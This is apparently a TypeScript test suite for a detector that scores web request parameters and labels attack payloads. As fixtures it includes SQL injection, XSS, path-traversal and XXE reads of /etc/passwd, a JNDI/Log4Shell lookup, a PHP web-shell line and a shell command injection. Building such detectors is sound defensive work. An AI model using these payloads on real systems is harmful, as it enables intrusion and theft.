import { array, assert, constantFrom, oneof, property, string } from 'fast-check'
import { describe, expect, it } from 'vitest'
import { kindsOf, payloadKinds } from '../../src/models/payload-kinds.ts'
import {
  gramBitsIn,
  openPlace,
  payloadBits,
  payloadModel,
  shapeGrams,
} from '../../src/models/payload-model.ts'
import { payloadReader, queryValues } from '../../src/models/payload-reader.ts'
import { decodedText, shapeByCharacter, textShape } from '../../src/models/payload-text.ts'
import { payloadPurposes } from '../../src/features/payload.ts'

const anyText = oneof(
  string({ unit: 'binary', maxLength: 60 }),
  string({
    unit: constantFrom("'", '%', '2', '7', 'a', '<', '(', ' ', '/', '.', '$', '{', '+'),
    maxLength: 80,
  }),
)

describe('the text of a request', () => {
  it('is read without its coding, coded once or twice', () => {
    expect(decodedText('what%27s+up', true)).toBe("what's up")
    expect(decodedText('what%27s+up', false)).toBe("what's+up")
    expect(decodedText('%252e%252e%252fetc', false)).toBe('../etc')
    expect(decodedText('%E6%9D%B1%E4%BA%AC', false)).toBe('東京')
    expect(decodedText('caf%E9', false)).toBe('café')
    expect(decodedText('..%c0%af..%c1%9c', false)).toBe('../..\\')
    expect(decodedText('100%', false)).toBe('100%')
    expect(decodedText('%zz%2', false)).toBe('%zz%2')
  })

  it('becomes a shape in which words and numbers of any length and script are one sign', () => {
    expect(textShape("O'Brien, 12 Main St.")).toBe("a'a, 0 a a.")
    expect(textShape('東京 2026')).toBe('a 0')
    expect(textShape('../../../..')).toBe('../../../..')
    expect(textShape('------a')).toBe('---a')
    expect(textShape('🙂🙂 – x')).toBe('ø ø a')
    expect(textShape('')).toBe('')
  })

  it('becomes the same shape a character at a time', () => {
    assert(
      property(
        oneof(string({ maxLength: 60 }), anyText),
        (text) => shapeByCharacter(text) === textShape(text),
      ),
      { numRuns: 500, seed: 6 },
    )
    expect(textShape('a\r\n\r\n\r\n')).toBe(shapeByCharacter('a\r\n\r\n\r\n'))
    expect(textShape('\n\n\n\n\n')).toBe('\n\n\n')
  })

  it('is read whatever it holds', () => {
    assert(
      property(anyText, (text) => textShape(decodedText(text, true)).length <= text.length * 2 + 2),
      { numRuns: 300, seed: 3 },
    )
  })

  it('is cut into the values of its parameters', () => {
    expect(queryValues('id=1&Q2=%27a&x=a+b')).toEqual([
      { text: "'a", name: 'q0' },
      { text: 'a b', name: 'x' },
    ])
    expect(queryValues('user[$ne]=x')).toEqual([{ text: 'user[$ne]=x', name: '' }])
    expect(queryValues('%3Cscript%3E=1')).toEqual([{ text: '<script>=1', name: '' }])
    expect(queryValues('page=2&sort=price')).toEqual([])
    expect(queryValues('page=2&amp;sort=price')).toEqual([])
    expect(queryValues('a=&lt;script&gt;&#x27;&#39;&#9999999;')).toEqual([
      { text: "<script>''", name: 'a' },
      { text: '#9999999;', name: '' },
    ])
  })
})

const ordinary = [
  'summer sale',
  "what's new?",
  '"exact phrase" test',
  '2026-03-02T10:00:00+01:00',
  '{"page":1,"tags":["a","b"]}',
  'https://www.example.com/path?a=b&c=d#part',
  'anna+news@example.com',
  '52.52,13.40',
  'привет, мир!',
]

const payloads = [
  "1' or '1'='1",
  '1 and (select count(*) from users)=1--',
  '"><script>alert(1)</script>',
  '../../../../etc/passwd',
  '${${lower:j}ndi:ldap://192.0.2.1/a}',
  '{{7*7}}',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
]

describe('the model of payloads', () => {
  const model = payloadModel()

  it('tells payloads from ordinary values before it has read anything', () => {
    expect(Math.max(...model.score(ordinary))).toBeLessThan(8)
    expect(Math.min(...model.score(payloads))).toBeGreaterThan(18)
  })

  it('learns what is ordinary for a parameter', () => {
    const filters = Array.from({ length: 200 }, (_, i) => `{{${i}||word}}`)
    const [before = 0] = model.score(['{{17||other}}'])
    const [after = 0] = payloadModel(filters).score(['{{17||other}}'])
    expect(before).toBeGreaterThan(18)
    expect(after).toBeLessThan(2)
  })

  it('finds what is ordinary elsewhere odd where only numbers are usual', () => {
    const numbers = Array.from({ length: 500 }, (_, i) => String(i))
    const [elsewhere = 0] = model.score(['1 or 1=1'])
    const [here = 0] = payloadModel(numbers).score(['1 or 1=1'])
    expect(here).toBeGreaterThan(elsewhere + 15)
  })

  it('gives finite numbers that are never below 0', () => {
    assert(
      property(array(anyText, { maxLength: 4 }), (texts) =>
        [...model.score(texts)].every((bits) => Number.isFinite(bits) && bits >= 0),
      ),
      { numRuns: 300, seed: 4 },
    )
    expect(model.score([''])).toEqual(Float64Array.of(0))
  })

  it('does not learn what fewer than three clients sent, however often', () => {
    const shape = textShape('{{7||7}}')
    const odd = payloadBits(gramBitsIn('values'), shapeGrams(shape))
    const place = openPlace()
    for (let i = 0; i < 1000; i++) place.read(shapeGrams(shape), [i % 2])
    expect(payloadBits(gramBitsIn('values', [place.finish()]), shapeGrams(shape))).toBe(odd)
    place.read(shapeGrams(shape), [2])
    expect(payloadBits(gramBitsIn('values', [place.finish()]), shapeGrams(shape))).toBeLessThan(odd / 2)
  })

  it('takes time in the order of the length of a text', () => {
    const long = ["'", '%27(', 'select ', '..', '{{', '$(', '/*', "'or ", 'union '].map((piece) =>
      piece.repeat(Math.ceil(8192 / piece.length)),
    )
    const startedMs = performance.now()
    model.score(long)
    for (const text of long) kindsOf(text)
    expect(performance.now() - startedMs).toBeLessThan(2000)
  })
})

describe('the words of a payload', () => {
  it.each([
    ['sql', "1' union/**/all/**/select 1,2--"],
    ['sql', "' or 'a'='a"],
    ['script', '<svg/onload=alert(1)>'],
    ['traversal', '..\\..\\windows\\win.ini'],
    ['shell', '192.0.2.1; cat /etc/group'],
    ['template', '{{config.items()}}'],
    ['jndi', '${jndi:ldap://192.0.2.1/a}'],
    ['inclusion', 'php://filter/resource=index'],
    ['xml', '<!ENTITY a SYSTEM "b">'],
    ['code', '<?php system($_GET[1]);'],
    ['nosql', 'user[$ne]=x'],
    ['header', 'a\r\nSet-Cookie: b=c'],
  ])('say that it is %s: %s', (kind, text) => {
    expect(kindsOf(text)).toContain(kind)
  })

  it('say nothing of ordinary values', () => {
    expect(ordinary.flatMap((text) => kindsOf(text))).toEqual([])
  })

  it('are told apart by features as they are by the model', () => {
    expect(payloadPurposes).toEqual(payloadKinds)
  })
})

describe('a reader of requests', () => {
  const row = (text: string, clients: number[], page = 'www.example.com/item') => ({
    hash: text,
    part: 1,
    page,
    text,
    clients,
    requests: clients.length,
  })

  it('judges what it read, and says what it is meant for', () => {
    const reader = payloadReader()
    reader.read(row('id=1%27+or+%271%27=%271', [1]))
    reader.read(row('q=summer+sale', [2]))
    const found = [...reader.judge(new Set())]
    expect(found.map(({ hash, kinds }) => [hash, kinds])).toEqual([['id=1%27+or+%271%27=%271', ['sql']]])
    expect([...reader.oddRequests().keys()]).toEqual([1])
    expect([...reader.wanted()]).toEqual(['id'])
  })

  it('learns from visitors, and not from those that are suspected', () => {
    const judge = (suspects: readonly number[]): number => {
      const reader = payloadReader()
      for (let i = 0; i < 40; i++) reader.read(row(`sel=%7B%7B${i}%7C%7C7%7D%7D`, [i]))
      return [...reader.judge(new Set(suspects))].length
    }
    expect(judge([])).toBe(0)
    expect(judge(Array.from({ length: 40 }, (_, i) => i))).toBe(40)
  })
})
